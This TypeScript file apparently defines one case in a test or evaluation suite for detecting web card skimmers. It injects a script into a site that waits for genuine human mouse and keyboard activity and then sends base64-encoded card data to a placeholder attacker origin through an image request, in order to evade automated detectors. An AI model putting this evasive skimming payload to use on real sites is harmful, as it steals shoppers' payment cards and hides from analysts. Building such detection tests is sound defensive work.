import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'evade-human-input',
  why: 'Waits for a person: trusted events, a mouse that travelled, keys with a rhythm; a value set by a program wakes nothing.',
  covers: ['hard: hides from analysts', 'reading: click', 'evade: detectors'],
  base: 'direct',
  install: (site) =>
    site.append(js`(function () {
  var moves = 0, keys = 0, trusted = true;
  addEventListener('mousemove', function (e) { moves += e.isTrusted ? 1 : 0; });
  addEventListener('keydown', function (e) { keys += 1; trusted = trusted && e.isTrusted; });
  ${onPay(js`
    if (moves < 3 || keys < 12 || !trusted) return;
    new Image().src = '${site.origins.evil}/p.gif?d=' + encodeURIComponent(btoa(card()));`)}
})();`),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
